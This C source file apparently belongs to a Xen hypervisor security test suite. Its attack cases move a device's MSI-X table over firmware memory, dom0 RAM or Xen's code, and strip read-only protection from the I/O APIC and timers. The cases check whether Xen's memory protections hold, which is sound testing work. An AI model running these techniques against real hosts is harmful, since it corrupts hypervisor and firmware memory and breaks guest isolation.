// SPDX-License-Identifier: GPL-2.0-only
/*
 * Tables of MSI-X. A device keeps addresses of its interrupts in memory of its
 * own, and registers in configuration space tell where that is. Xen writes there
 * itself, to wherever these registers lead.
 *
 * One device has a table that begins a BAR of its own, another a table within
 * a BAR of 64 bits.
 */
#include "machine.h"

#include <xen/physdev.h>

#include "firmware.h"
#include "frames.h"
#include "registers.h"
#include "xen_memory.h"

#define COMMAND 0x04
#define MEMORY  2

#define MSIX         0x11
#define MSIX_CONTROL 2
#define MSIX_TABLE   4
#define MSIX_ENABLE  (1 << 15)

#define ENTRY_SIZE 16

struct device {
    uint16_t at;
    unsigned int bar;   /* the register of the BAR with the table */
    bool wide;          /* it has 64 bits */
    unsigned int table; /* in the BAR */
    unsigned int told;  /* both, as the capability has it */
};

static const struct device low = { .at = WITH_MSIX, .bar = 0x14, .told = 1 };
static const struct device high = { .at = WITH_MSIX_HIGH,
                                    .bar = 0x10,
                                    .wide = true,
                                    .table = 0x3000,
                                    .told = 0x3000 };

/* Have the device's BAR decode at @address; 0: not at all. */
static void place_device(const struct device *device, uint64_t address)
{
    const uint32_t command = config_read(device->at, COMMAND, 2);

    config_write(device->at, COMMAND, 2, command & ~MEMORY);
    if ( !address )
        return;
    config_write(device->at, device->bar, 4, (uint32_t)address);
    if ( device->wide )
        config_write(device->at, device->bar + 4, 4, (uint32_t)(address >> 32));
    config_write(device->at, COMMAND, 2, command | MEMORY);
}

static uint64_t device_place(const struct device *device)
{
    const uint64_t bar = config_read(device->at, device->bar, 4) & ~0xfU;

    return device->wide
               ? bar | (uint64_t)config_read(device->at, device->bar + 4, 4)
                           << 32
               : bar;
}

/* The register of the capability, 0 if the device is not as it should be. */
static unsigned int find_msix(const struct device *device)
{
    const unsigned int msix = find_capability(device->at, MSIX);

    return msix && config_read(device->at, msix + MSIX_TABLE, 4) == device->told
               ? msix
               : 0;
}

/*
 * Have Xen set up the device's interrupt, with the device at @address, and take
 * it down again; @meanwhile is asked in between.
 */
static bool pv_set_up(const struct device *device, uint64_t address,
                      bool (*meanwhile)(void))
{
    struct physdev_map_pirq map = { .domid = DOMID_SELF,
                                    .type = MAP_PIRQ_TYPE_MSI_SEG,
                                    .index = -1,
                                    .pirq = -1,
                                    .devfn = device->at & 0xff,
                                    .table_base = address };
    struct physdev_unmap_pirq unmap = { .domid = DOMID_SELF };
    long result;
    bool seen;

    place_device(device, address);
    result = physdev_op(PHYSDEVOP_map_pirq, &map);
    seen = meanwhile();
    unmap.pirq = map.pirq;
    if ( !result )
        physdev_op(PHYSDEVOP_unmap_pirq, &unmap);

    return seen;
}

/*
 * A PVH dom0 writes to the table where the device is, and Xen keeps what it
 * writes for when the interrupts are switched on.
 */
static bool pvh_set_up(const struct device *device, uint64_t address,
                       bool (*meanwhile)(void))
{
    const unsigned int control = find_msix(device) + MSIX_CONTROL;
    const uint32_t before = config_read(device->at, control, 2);
    volatile uint32_t *table;
    bool seen;

    place_device(device, device_place(device));
    table = map_machine(device_place(device) / PAGE_SIZE, 1);
    if ( !table || !can_read(table, 0) )
        return false;
    table[0] = 0xfee00000;
    table[1] = 0;
    table[2] = 0x41;
    table[3] = 0;
    unmap_machine(table, 1);

    place_device(device, address);
    config_write(device->at, control, 2, before | MSIX_ENABLE);
    seen = meanwhile();
    config_write(device->at, control, 2, before & ~MSIX_ENABLE);

    return seen;
}

/* What an attack looks at, and what was there. */
static volatile uint8_t *target;
static uint8_t was[ENTRY_SIZE];

static bool target_changed(void)
{
    return memcmp((void *)target, was, sizeof(was));
}

/*
 * Where the device is a PVH dom0 sees what Xen makes of its table, and not the
 * memory behind it. See @target through a page of ours, if Xen lets us.
 */
static volatile uint8_t *see_elsewhere(uint64_t address)
{
    volatile uint8_t *page = map_as_device(address / PAGE_SIZE, 1);
    const uint8_t before = target[0], other = before ^ 0xff;
    bool same;

    target[0] = other;
    same = page[0] == other;
    target[0] = before;
    if ( same )
        return page;
    unmap_as_device(page, 1);

    return NULL;
}

/* Aim the BAR at @address, which has the table where @target is seen. */
static enum outcome aim_table(const struct device *device, uint64_t address,
                              const char *what)
{
    const uint64_t place = device_place(device);
    bool changed;

    if ( !find_msix(device) || !place )
        return cannot_try("no device with MSI-X");
    memcpy(was, (void *)target, sizeof(was));
    changed = dom0_is_pv() ? pv_set_up(device, address, target_changed)
                           : pvh_set_up(device, address, target_changed);
    place_device(device, 0);
    place_device(device, place);
    if ( changed )
        memcpy((void *)target, was, sizeof(was));

    return effect(changed, "%s at %#lx %s", what, address,
                  changed ? "has become an entry of a table" : "as it was");
}

/*
 * K-MSIX-TABLE: have Xen write to the firmware's memory.
 *
 * The device is moved over it, and Xen is asked for the device's interrupt.
 */
KERNEL_ATTACK("K-MSIX-TABLE", "have Xen write a table into firmware's memory")
{
    const uint64_t address = firmware_last(ACPI_NVS);

    volatile uint8_t *page = NULL;
    enum outcome outcome;

    target = address ? map_machine(address / PAGE_SIZE, 1) : NULL;
    if ( !target || !can_read(target, 0) )
        return cannot_try("no memory of the firmware's that could be read");

    if ( !dom0_is_pv() )
        page = see_elsewhere(address);
    if ( page )
        target = page;
    outcome = aim_table(&low, address, "the firmware's memory");
    if ( page )
        unmap_as_device(page, 1);

    return outcome;
}

/* K-MSIX-RAM: the same with memory; it is dom0's own, so that it can be seen. */
KERNEL_PV_ATTACK("K-MSIX-RAM", "have Xen write a table into memory",
                 "what is in a PVH dom0's memory lies elsewhere in the machine")
{
    target = buffer(PAGE_SIZE);

    return aim_table(&low, own_frame((void *)target) * PAGE_SIZE, "memory");
}

/*
 * K-MSIX-HIGH: the same by an address that nobody has.
 *
 * Of a page table's entry the processor takes the bits up to 51 for an address.
 * A device may decode at 1 << 52 and above, where there is nothing; Xen maps the
 * table there, and writes to what has the rest of the address.
 */
KERNEL_PV_ATTACK("K-MSIX-HIGH", "have Xen write a table to half an address",
                 "where its tables are Xen maps nothing to write there")
{
    static const uint64_t lost = 1ULL << 52, size = 0x4000;
    const unsigned int pages = 64;
    uint8_t *memory = buffer(pages * PAGE_SIZE);
    uint64_t frame;
    unsigned int i;

    for ( i = 0; i < pages; i++ )
    {
        frame = own_frame(memory + i * PAGE_SIZE) * PAGE_SIZE;
        if ( frame % size != high.table )
            continue;
        target = memory + i * PAGE_SIZE;
        return aim_table(&high, lost + frame - high.table, "memory");
    }

    return cannot_try("no page of ours is where the table can be");
}

/* ---- what Xen lets nobody write ---- */

/*
 * Xen keeps a list of frames that may be read only: those of tables, while they
 * are in use, and those of its own devices. A table over a device takes the
 * device off the list when it is no longer used.
 */
static void protect_and_release(uint64_t address)
{
    physdev_pci_device_t device = { .devfn = low.at & 0xff };
    const uint64_t place = device_place(&low);

    place_device(&low, address);
    physdev_op(PHYSDEVOP_prepare_msix, &device);
    physdev_op(PHYSDEVOP_release_msix, &device);
    place_device(&low, 0);
    place_device(&low, place);
}

/* K-MSIX-RO: make the I/O APIC writable. */
KERNEL_ATTACK_OWN_BOOT("K-MSIX-RO", "take the I/O APIC off Xen's list")
{
    if ( !dom0_is_pv() )
        return not_applicable("PV only: a PVH dom0 has I/O APICs of its own");
    if ( io_apic_changes() )
        return cannot_try("the I/O APIC can be written as it is");
    protect_and_release(0xfec00000);

    return effect_either(io_apic_changes(), "the I/O APIC",
                         "can be written now", "out of reach");
}

/* K-MSIX-RO-HPET: make the machine's timers writable. */
KERNEL_ATTACK_OWN_BOOT("K-MSIX-RO-HPET", "take the timers off Xen's list")
{
    if ( !dom0_is_pv() )
        return not_applicable("PV only: a PVH kernel cannot map them");
    if ( can_change_machine(HPET_COMPARATOR) )
        return cannot_try("the timers can be written as they are");
    protect_and_release(HPET_COMPARATOR & PAGE_MASK);

    return change_machine(HPET_COMPARATOR, "when a timer goes off");
}

/* ---- beside the table ---- */

static void write_beside_table(uint64_t where, uint32_t word)
{
    volatile char *page;

    place_device(&low, where & PAGE_MASK);
    page = map_machine(where / PAGE_SIZE, 1);
    if ( page )
    {
        store(page + where % PAGE_SIZE, 4, word);
        unmap_machine(page, 1);
    }
}

/*
 * K-VPCI-PAGE: write to Xen beside a table.
 *
 * A PVH dom0 does not reach the page of a device's table; what it reads and
 * writes there beside the table Xen does for it. With the device over Xen's own
 * memory, that is where Xen writes.
 */
KERNEL_PVH_ATTACK("K-VPCI-PAGE", "have Xen write to its code by a table's page",
                  "a PV dom0 maps the page itself")
{
    const uint64_t place = device_place(&low);
    enum outcome outcome;

    if ( !find_msix(&low) || !place )
        return cannot_try("no device with MSI-X");
    outcome = change_version(write_beside_table);
    place_device(&low, 0);
    place_device(&low, place);

    return outcome;
}
